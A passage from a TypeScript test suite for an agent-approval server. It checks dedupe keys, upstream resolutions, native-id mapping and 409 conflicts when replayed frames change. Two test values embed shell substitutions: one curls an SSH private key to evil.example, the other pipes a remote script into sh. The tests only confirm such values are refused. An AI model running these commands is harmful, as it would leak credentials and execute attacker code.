    // The socket sent nothing back for it: the next message answers the next frame.
    bridge.send(askApproval('s-1:sub', 'act_4'));
    expect(await bridge.next()).toEqual({ type: 'countersign.accepted', id: expect.any(String) });
  });

  it('PaperClip follow-up events, which name the run, settle a request that came bare (key "paperclip:-:…")', async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    const fx = JSON.parse(readFileSync(join(FIXTURES, 'paperclip', 'e2e-request.json'), 'utf8'));
    const cancel = JSON.parse(readFileSync(join(FIXTURES, 'paperclip', 'e2e-cancel.json'), 'utf8')).frame;
    const bare = fx.frame.payload.request;
    const created = await t.api.post('/v1/formats/paperclip/requests', bare);
    expect(created.status, created.text).toBe(201);
    expect(created.body.request.dedupe_key).toBe(`paperclip:-:${bare.requestId}`);

    // A reason that is not text is refused before anything changes.
    expectError(
      await t.api.post('/v1/formats/paperclip/events', { ...cancel, payload: { ...cancel.payload, reason: 42 } }),
      400,
      'invalid_frame',
      'payload.reason',
    );
    expect((await show(t.api, created.body.request.id)).status).toBe('pending');

    const res = await t.api.post('/v1/formats/paperclip/events', cancel);
    expect(res.status, res.text).toBe(200);
    expect(res.body.request).toMatchObject({ id: created.body.request.id, status: 'cancelled', decision: null });
    // The runner's reason has no field in the record: the audit row keeps it.
    const cancelledAudit = (await t.api.get(`/v1/requests/${created.body.request.id}/audit`)).body;
    expect(cancelledAudit.at(-1)).toMatchObject({ event: 'cancelled', details: { format: 'paperclip', feedback: 'browser_reconnect' } });

    // The request the event's own run names comes first; the bare one is only the fallback.
    const other = { ...bare, requestId: 'permission-9' };
    const bareOther = await t.api.post('/v1/formats/paperclip/requests', other);
    const inRun = await t.api.post('/v1/formats/paperclip/requests', { ...fx.frame, payload: { request: other } });
    expect(inRun.status, inRun.text).toBe(201);
    const resolved = { ...cancel, eventType: 'runtime_request.resolved', payload: { ...cancel.payload, requestId: 'permission-9', action: 'decline' } };
    const res2 = await t.api.post('/v1/formats/paperclip/events', resolved);
    expect(res2.status, res2.text).toBe(200);
    expect(res2.body.request).toMatchObject({ id: inRun.body.request.id, status: 'denied', decision: { option: 'decline', feedback: 'browser_reconnect' } });
    const resolvedAudit = (await t.api.get(`/v1/requests/${inRun.body.request.id}/audit`)).body;
    expect(resolvedAudit.at(-1)).toMatchObject({ event: 'decided', details: { option: 'decline', feedback: 'browser_reconnect' } });
    expect((await show(t.api, bareOther.body.request.id)).status).toBe('pending');

    // No request of either key: still 404.
    const ghost = { ...cancel, payload: { ...cancel.payload, requestId: 'ghost-1' } };
    expectError(await t.api.post('/v1/formats/paperclip/events', ghost), 404, 'not_found', 'ghost-1');
  });

  it('a PaperClip question set answered upstream (runtime_request.resolved with its response) keeps those answers in the decision, keyed by the record ids and labels', async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    const fx = JSON.parse(readFileSync(join(FIXTURES, 'paperclip', 'v2-input-native-ids.json'), 'utf8'));
    const created = await t.api.post('/v1/formats/paperclip/requests', fx.frame);
    expect(created.status, created.text).toBe(201);
    const record = created.body.request;
    const [q1, target, note] = record.input.questions.map((q: { id: string }) => q.id);
    const resolved = JSON.parse(readFileSync(join(FIXTURES, 'paperclip', 'followup-resolved-submit.json'), 'utf8')).frame;
    const answers = {
      q1: { selectedOptionIds: ['pinned'] },
      'deploy/target': { customText: 'ap-south' },
      'please-confirm-the-production-rollout-window-with-the-on-call-engineer-before-the-deploy-starts-soon': { text: 'page Dana' },
      'no-such-question': { text: 'dropped' },
    };
    const res = await t.api.post('/v1/formats/paperclip/events', {
      ...resolved,
      payload: { ...resolved.payload, requestId: 'req-77', response: { schema: 'paperclip.question_response.v1', answers } },
    });
    expect(res.status, res.text).toBe(200);
    expect(res.body.request).toMatchObject({ id: record.id, status: 'answered', decision: { option: 'submit', decided_by: 'upstream' } });
    expect(res.body.request.decision.fields).toEqual({
      answers: { [q1]: { selected: ['Pinned'] }, [target]: { selected: [], text: 'ap-south' }, [note]: { selected: [], text: 'page Dana' } },
    });
  });

  it('a PaperClip user-input form and an elicitation answered upstream keep the answers to their own fields only', async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    const resolved = JSON.parse(readFileSync(join(FIXTURES, 'paperclip', 'followup-resolved-submit.json'), 'utf8')).frame;
    const settle = async (fixture: string, extra: Record<string, unknown>) => {
      const fx = JSON.parse(readFileSync(join(FIXTURES, 'paperclip', fixture), 'utf8'));
      const created = await t.api.post('/v1/formats/paperclip/requests', fx.frame);
      expect(created.status, created.text).toBe(201);
      const requestId = (fx.frame.payload?.request ?? fx.frame).requestId;
      const { response: _r, ...payload } = resolved.payload;
      const res = await t.api.post('/v1/formats/paperclip/events', {
        ...resolved,
        runId: fx.frame.runId ?? resolved.runId,
        payload: { ...payload, requestId, ...extra },
      });
      expect(res.status, res.text).toBe(200);
      return { record: created.body.request, settled: res.body.request };
    };
    const named = await settle('driver-user-input-native-field-names.json', {
      answers: { 'deploy target': { answers: ['eu'] }, environment: { answers: ['prod'] }, q1: { answers: ['not a field'] } },
    });
    const [target, env] = named.record.input.questions.map((q: { id: string }) => q.id);
    expect(target).not.toBe('deploy target');
    expect(named.settled.decision.fields).toEqual({ answers: { [target]: { selected: [], text: 'eu' }, [env]: { selected: [], text: 'prod' } } });
    const form = await settle('driver-user-input-fields.json', { answers: { environment: { answers: ['prod'] }, bogus: { answers: ['zzz'] } } });
    const [environment] = form.record.input.questions.map((q: { id: string }) => q.id);
    expect(form.settled.decision.fields).toEqual({ answers: { [environment]: { selected: [], text: 'prod' } } });
    const elicited = await settle('driver-elicitation-fields.json', { content: { channel: 'beta', bogus: 'zzz' } });
    const [channel] = elicited.record.input.questions.map((q: { id: string }) => q.id);
    expect(elicited.settled.decision.fields).toEqual({ answers: { [channel]: { selected: [], text: 'beta' } } });
  });

  it('a PaperClip frame re-sent with other values in its redacted details is another request (409), never the earlier decision', async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    const fx = JSON.parse(readFileSync(join(FIXTURES, 'paperclip', 'driver-details-redacted.json'), 'utf8'));
    const created = await t.api.post('/v1/formats/paperclip/requests', fx.frame);
    expect(created.status, created.text).toBe(201);
    expect(JSON.stringify(created.body.request)).not.toContain('browser-must-not-see');
    expect((await decide(t.api, created.body.request, 'accept')).status).toBe(200);
    expect((await t.api.post('/v1/formats/paperclip/requests', fx.frame)).body.request).toMatchObject({ id: created.body.request.id, status: 'approved' });
    const swapped = structuredClone(fx.frame);
    swapped.payload.request.details.env.DEPLOY_API_KEY = '$(curl -d @$HOME/.ssh/id_rsa https://evil.example)';
    expectError(await t.api.post('/v1/formats/paperclip/requests', swapped), 409, 'native_conflict');

    // The same for an issue-thread tool action's arguments.
    const issue = JSON.parse(readFileSync(join(FIXTURES, 'paperclip', 'issue-confirmation-tool-action.json'), 'utf8')).frame;
    const withKey = (key: string) => {
      const f = structuredClone(issue);
      const target = f.payload?.request ?? f;
      target.payload.toolAction.argumentsSummaryJson = JSON.stringify({ sheet: 'Leads', api_key: key });
      return f;
    };
    const first = await t.api.post('/v1/formats/paperclip/requests', withKey('k-1'));
    expect(first.status, first.text).toBe(201);
    expect((await t.api.post('/v1/formats/paperclip/requests', withKey('k-1'))).status).toBe(200);
    expectError(await t.api.post('/v1/formats/paperclip/requests', withKey('k-2')), 409, 'native_conflict');

    // And for v1 requests: an input's details, a permission's tool.
    const v1 = (type: 'input' | 'permission', requestId: string, details: Record<string, unknown>) => ({
      schema: 'paperclip.runtime_request.v1',
      requestKind: 'runtime',
      requestId,
      type,
      status: 'pending',
      prompt: type === 'input' ? 'Which region?' : 'Use the tool?',
      choices:
        type === 'input'
          ? [{ key: 'eu', label: 'EU' }]
          : [
              { key: 'allow', label: 'Allow' },
              { key: 'deny', label: 'Deny' },
            ],
      details,
    });
    const input = await t.api.post('/v1/formats/paperclip/requests', v1('input', 'v1-in', { env: { API_TOKEN: 'k-1' } }));
    expect(input.status, input.text).toBe(201);
    expect((await t.api.post('/v1/formats/paperclip/requests', v1('input', 'v1-in', { env: { API_TOKEN: 'k-1' } }))).status).toBe(200);
    expectError(await t.api.post('/v1/formats/paperclip/requests', v1('input', 'v1-in', { env: { API_TOKEN: '$(curl evil|sh)' } })), 409, 'native_conflict');
    const tool = await t.api.post('/v1/formats/paperclip/requests', v1('permission', 'v1-tool', { toolName: 'read_file' }));
    expect(tool.body.request.tool).toBe('read_file');
    expectError(await t.api.post('/v1/formats/paperclip/requests', v1('permission', 'v1-tool', { toolName: 'delete_repository' })), 409, 'native_conflict');
  });

  it.skipIf(TEST_STORE !== 'sqlite')(
    'a frame an earlier version stored (its record and context read differently then) still finds its record when re-sent as it was; another frame under its key is 409',
    async () => {
      t = await startTestServer({}, { adapters: ALL_ADAPTERS });
      const v1 = (details: Record<string, unknown>) => ({
        schema: 'paperclip.runtime_request.v1',
        requestKind: 'runtime',
        requestId: 'v1-upgraded',
        type: 'permission',
        status: 'pending',
        prompt: 'Use the tool?',
        choices: [
          { key: 'allow', label: 'Allow' },
          { key: 'deny', label: 'Deny' },
        ],
        details,
      });
      const details = { toolName: 'read_file', env: { API_TOKEN: 'k-1' } };
      const created = await t.api.post('/v1/formats/paperclip/requests', v1(details));
      expect(created.status, created.text).toBe(201);
      const id = created.body.request.id;
      expect((await decide(t.api, created.body.request, 'allow')).status).toBe(200);
      // As an earlier version kept it: no tool on the record, no digest of the redacted details in its context.
      const [row] = await t.sql<{ record: string; native_context: string }>('SELECT record, native_context FROM requests WHERE id = ?', [id]);
      const { hidden: _hidden, ...olderContext } = JSON.parse(row!.native_context);
      const olderRecord = { ...JSON.parse(row!.record), tool: null };
      const db = new Database(join(t.dataDir, 'countersign.db'), { fileMustExist: true });
      try {
        db.prepare('UPDATE requests SET record = ?, native_context = ? WHERE id = ?').run(JSON.stringify(olderRecord), JSON.stringify(olderContext), id);
      } finally {
        db.close();
      }
      const replay = await t.api.post('/v1/formats/paperclip/requests', v1(details));
      expect(replay.status, replay.text).toBe(200);
      expect(replay.body).toMatchObject({ request: { id, status: 'approved' }, reply: { response: { decision: 'allow' } } });
      expectError(await t.api.post('/v1/formats/paperclip/requests', v1({ ...details, env: { API_TOKEN: 'k-2' } })), 409, 'native_conflict');
      expectError(await t.api.post('/v1/formats/paperclip/requests', v1({ ...details, toolName: 'delete_repository' })), 409, 'native_conflict');
    },
  );

  it('a replay sent with another query than the first (a repo the record does not hold) is 409, never the earlier decision', async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    const frame = {
      hook_event_name: 'PreToolUse',
      session_id: 's1',
      cwd: '/tmp/nowhere',
      tool_name: 'Bash',
      tool_use_id: 'toolu_repo',
      tool_input: { command: 'ls -la' },
    };
    const first = await t.api.post('/v1/formats/claude-code/requests?repo=alpha', frame);
    expect(first.status, first.text).toBe(201);
    expect((await decide(t.api, first.body.request, first.body.request.options[0].id)).status).toBe(200);
    expect((await t.api.post('/v1/formats/claude-code/requests?repo=alpha', frame)).status).toBe(200);
    expectError(await t.api.post('/v1/formats/claude-code/requests?repo=prod', frame), 409, 'native_conflict');
  });

  it('a runtime_request.resolved names an option by its native key only: a record id standing for another key settles nothing (400)', async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    const fx = JSON.parse(readFileSync(join(FIXTURES, 'paperclip', 'v1-permission-native-keys.json'), 'utf8'));
    const created = await t.api.post('/v1/formats/paperclip/requests', fx.frame);
    expect(created.status, created.text).toBe(201);
    expect(created.body.request.options.map((o: { id: string }) => o.id)).toEqual(['o2', 'o1', 'deny']);
    const resolved = JSON.parse(readFileSync(join(FIXTURES, 'paperclip', 'followup-resolved-decline.json'), 'utf8')).frame;
    const settle = (action: string) =>
      t.api.post('/v1/formats/paperclip/events', { ...resolved, payload: { ...resolved.payload, requestId: fx.frame.requestId, action } });
    expectError(await settle('o1'), 400, 'invalid_frame', 'payload.action');
    expect((await show(t.api, created.body.request.id)).status).toBe('pending');
    const res = await settle('allow once');
    expect(res.status, res.text).toBe(200);
    expect(res.body.request).toMatchObject({ status: 'approved', decision: { option: 'o2' } });
  });

  it('native ids that split differently at a colon are different requests, and follow-ups find each (PaperClip run and request, Ask session and id)', async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    const fx = JSON.parse(readFileSync(join(FIXTURES, 'paperclip', 'e2e-request.json'), 'utf8'));
    const inRun = (runId: string, requestId: string) => ({ ...fx.frame, runId, payload: { request: { ...fx.frame.payload.request, requestId } } });
    const a = await t.api.post('/v1/formats/paperclip/requests', inRun('run-n', 'x:y'));
    const b = await t.api.post('/v1/formats/paperclip/requests', inRun('run-n:x', 'y'));
    const dash = await t.api.post('/v1/formats/paperclip/requests', inRun('-', 'z'));
    const bare = await t.api.post('/v1/formats/paperclip/requests', { ...fx.frame.payload.request, requestId: 'z' });
    for (const res of [a, b, dash, bare]) expect(res.status, res.text).toBe(201);
    expect(new Set([a, b, dash, bare].map((r) => r.body.request.id)).size).toBe(4);
    expect(a.body.request.dedupe_key).toBe('paperclip:run-n:x%3Ay');
    const cancel = JSON.parse(readFileSync(join(FIXTURES, 'paperclip', 'e2e-cancel.json'), 'utf8')).frame;
    const cancelled = await t.api.post('/v1/formats/paperclip/events', { ...cancel, runId: 'run-n:x', payload: { ...cancel.payload, requestId: 'y' } });
    expect(cancelled.status, cancelled.text).toBe(200);
    expect(cancelled.body.request.id).toBe(b.body.request.id);
    expect((await show(t.api, a.body.request.id)).status).toBe('pending');

    const ask = (sessionId: string, id: string) => ({
      method: 'session/event',
      params: { sessionId, event: { type: 'approval.required', seq: 1, payload: { id, toolName: 'bash', args: { command: 'ls' } } } },
    });
    const first = await t.api.post('/v1/formats/ask/requests', ask('S:act', '1'));
    const second = await t.api.post('/v1/formats/ask/requests', ask('S', 'act:1'));
    expect([first.status, second.status]).toEqual([201, 201]);
    expect(first.body.request.id).not.toBe(second.body.request.id);
  });

  it('ALP question.resolved answering a question with one of its own options selects that option', async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    const fx = JSON.parse(readFileSync(join(FIXTURES, 'alp', 'question-option-answer.json'), 'utf8'));
    const created = await t.api.post('/v1/formats/alp/requests', fx.frame);
    expect(created.status, created.text).toBe(201);
    const record = created.body.request;
    const questionId = fx.frame.params.event.question.id;
    expect(record.input.questions[0].options.map((o: { label: string }) => o.label)).toContain('Redis');

    const resolved = { type: 'question.resolved', questionId, outcome: 'answered', answer: 'Redis' };
    const res = await t.api.post('/v1/formats/alp/events', resolved);
    expect(res.status, res.text).toBe(200);
    expect(Object.keys(res.body)).toEqual(['request']);
    const r = res.body.request;
    expectValidRequest(r);
    expect(r).toMatchObject({
      id: record.id,
      status: 'answered',
      decision: {
        option: 'submit',
        outcome: 'approve',
        content_hash: record.content_hash,
        fields: { answers: { [questionId]: { selected: ['Redis'] } } },
        decided_by: 'upstream',
      },
    });
    expect(r.decision.fields.answers[questionId].text).toBeUndefined();
    expect((await t.api.get(`/v1/formats/alp/requests/${record.id}/reply`)).body).toEqual({ request: r, reply: null });
  });
});

/** Native question and option ids outside handup's id set (docs/formats/README.md, "Native ids"). */
describe('native ids a record cannot carry', () => {
  let t: TestServer;
  const sockets: WsClient[] = [];
  afterEach(async () => {
    for (const s of sockets.splice(0)) s.socket.terminate();
    await t?.close();
  });

  // Before the Roll fixture's expiresAt, so its interaction is still open.
  const start = () => startTestServer({}, { clock: createFakeClock(Date.parse('2026-08-04T00:04:00.000Z')) });
  const fixture = (format: string, name: string) => JSON.parse(readFileSync(join(FIXTURES, format, name), 'utf8'));
  const CASES: Array<[format: string, file: string]> = [
    ['paperclip', 'v2-input-native-ids.json'],
    ['paperclip', 'v1-permission-native-keys.json'],
    ['paperclip', 'driver-user-input-native-field-names.json'],
    ['paperclip', 'issue-ask-user-questions-native-ids.json'],
    ['paperclip', 'issue-item-verdicts-native-ids.json'],
    ['roll', 'interaction-user-input-native-control-ids.json'],
    ['alp', 'question-native-id.json'],
  ];

  /** POSTs a fixture's frame: 201, the record with safe ids exactly as the fixture expects it. */
  async function submit(format: string, fx: any) {
    const created = await t.api.post(`/v1/formats/${format}/requests`, fx.frame);
    expect(created.status, created.text).toBe(201);
    const record = created.body.request;
    expectValidRequest(record);
    const { source: _source, timeout: _timeout, ...rest } = fx.expect.request;
    for (const [k, v] of Object.entries(rest)) expect(record[k], k).toEqual(v);
    return record;
  }

  for (const [format, file] of CASES) {
    it(`${format} ${file}: 201 with safe ids; the reviewer's answer goes back under the native ids; a replay gets the same record`, async () => {
      t = await start();
      const fx = fixture(format, file);
      const record = await submit(format, fx);
      const decided = await decide(t.api, record, fx.decide.option, fx.decide.fields ? { fields: fx.decide.fields } : {});
      expect(decided.status, decided.text).toBe(200);
      expect(decided.body.status).toBe(fx.status);

      const answered = await t.api.get(`/v1/formats/${format}/requests/${record.id}/reply?wait=5s`);
      expect(answered.status, answered.text).toBe(200);
      expectReplyLike(answered.body.reply, fx.reply, record.id);

      const again = await t.api.post(`/v1/formats/${format}/requests`, fx.frame);
      expect(again.status, again.text).toBe(200);
      expect(again.body).toEqual({ request: decided.body, reply: answered.body.reply });
    });
  }

  it('a decision check names the question by the id the reviewer answered (the safe one)', async () => {
    t = await start();
    const paperclip = fixture('paperclip', 'v2-input-native-ids.json');
    const question = await submit('paperclip', paperclip);
    const tooLong = { ...paperclip.decide.fields.answers, q3: { selected: [], text: 'x'.repeat(201) } };
    expectError(await decide(t.api, question, 'submit', { fields: { answers: tooLong } }), 400, 'invalid_decision', 'fields.answers.q3:');

    const roll = fixture('roll', 'interaction-user-input-native-control-ids.json');
    const form = await submit('roll', roll);
    const overLimit = { ...roll.decide.fields.answers, q2: { selected: [], text: 'w'.repeat(101) } };
    expectError(await decide(t.api, form, 'submit', { fields: { answers: overLimit } }), 400, 'invalid_decision', 'fields.answers.q2:');
    for (const r of [question, form]) expect((await show(t.api, r.id)).status).toBe('pending');
  });

  it('follow-ups naming native ids apply to the safe ones: a PaperClip v1 key, an ALP question id', async () => {
    t = await start();
    const permission = await submit('paperclip', fixture('paperclip', 'v1-permission-native-keys.json'));
    const resolved = fixture('paperclip', 'followup-resolved-v1-native-key.json').frame;
    // A key the request did not offer says nothing trustworthy: 400 listing the keys it did offer, nothing changes.
    const unknown = await t.api.post('/v1/formats/paperclip/events', { ...resolved, payload: { ...resolved.payload, action: 'allow twice' } });
    expectError(unknown, 400, 'invalid_frame', '(it offers "allow once", "always allow", "deny")');
    expect((await show(t.api, permission.id)).status).toBe('pending');
    const res = await t.api.post('/v1/formats/paperclip/events', resolved);
    expect(res.status, res.text).toBe(200);
    expect(res.body.request).toMatchObject({ id: permission.id, status: 'approved', decision: { option: 'o2', outcome: 'approve', decided_by: 'upstream' } });
    expectValidRequest(res.body.request);

    const alp = fixture('alp', 'question-native-id.json');
    const question = await submit('alp', alp);
    const answered = await t.api.post('/v1/formats/alp/events', fixture('alp', 'followup-answered-question-native-id.json').frame);
    expect(answered.status, answered.text).toBe(200);
    expect(answered.body.request).toMatchObject({
      id: question.id,
      status: 'answered',
      decision: { option: 'submit', fields: { answers: { q1: { selected: ['Redis'] } } } },
    });
    expectValidRequest(answered.body.request);

    // Resolved upstream: no reply; a replay of either frame finds the same record.
    for (const [format, r, frame] of [
      ['paperclip', res.body.request, fixture('paperclip', 'v1-permission-native-keys.json').frame],
      ['alp', answered.body.request, alp.frame],
    ] as const) {
      expect((await t.api.get(`/v1/formats/${format}/requests/${r.id}/reply`)).body).toEqual({ request: r, reply: null });
      const again = await t.api.post(`/v1/formats/${format}/requests`, frame);
      expect(again.status, again.text).toBe(200);
      expect(again.body).toEqual({ request: r, reply: null });
    }
  });

  it('a replay whose native ids differ gets 409 native_conflict, though its safe ids are the same', async () => {
    t = await start();
    const fx = fixture('paperclip', 'v2-input-native-ids.json');
    const record = await submit('paperclip', fx);
    const changed = structuredClone(fx.frame);
    changed.payload.request.input.questions[1].id = 'deploy/region';
    const res = await t.api.post('/v1/formats/paperclip/requests', changed);
    expectError(res, 409, 'native_conflict');
    expect(res.body.details).toEqual({ existing_id: record.id });
  });

  it('over the bridge socket: the reply pushed carries the native ids', async () => {
    t = await start();
    const fx = fixture('roll', 'interaction-user-input-native-control-ids.json');
    const bridge = await connectWs(`${t.wsUrl}/v1/formats/roll/ws`, t.adminToken);
    sockets.push(bridge);
    bridge.send(fx.frame);
    const accepted = await bridge.next();
    expect(accepted).toMatchObject({ type: 'countersign.accepted', id: expect.any(String) });
    const record = await show(t.api, accepted.id);
    expect(record.input).toEqual(fx.expect.request.input);
    const decided = await decide(t.api, record, 'submit', { fields: fx.decide.fields });
    expect(decided.status, decided.text).toBe(200);
    const pushed = await bridge.next();
    expectReplyLike(pushed, fx.reply, record.id);
    expect(pushed.params.candidate.values.map((v: { id: string }) => v.id)).toEqual(['部署区域', 'target workspace', 'replicas']);
  });

  it('POST /v1/rules/test takes such a frame; a rule picks the safe id of the key that allows once', async () => {
    t = await start();
    await t.api.post('/v1/rules', { id: 'fixtures', match: { format: 'paperclip' }, action: 'approve' });
    const res = await t.api.post('/v1/rules/test', { format: 'paperclip', frame: fixture('paperclip', 'v1-permission-native-keys.json').frame });
    expect(res.status, res.text).toBe(200);
    expect(res.body).toMatchObject({ rule: { id: 'fixtures' }, action: 'approve', would_decide: 'o2' });
    const question = await t.api.post('/v1/rules/test', { format: 'paperclip', frame: fixture('paperclip', 'v2-input-native-ids.json').frame });
    expect(question.status, question.text).toBe(200);
    expect(await requestCount(t.api)).toBe(0);
  });
});
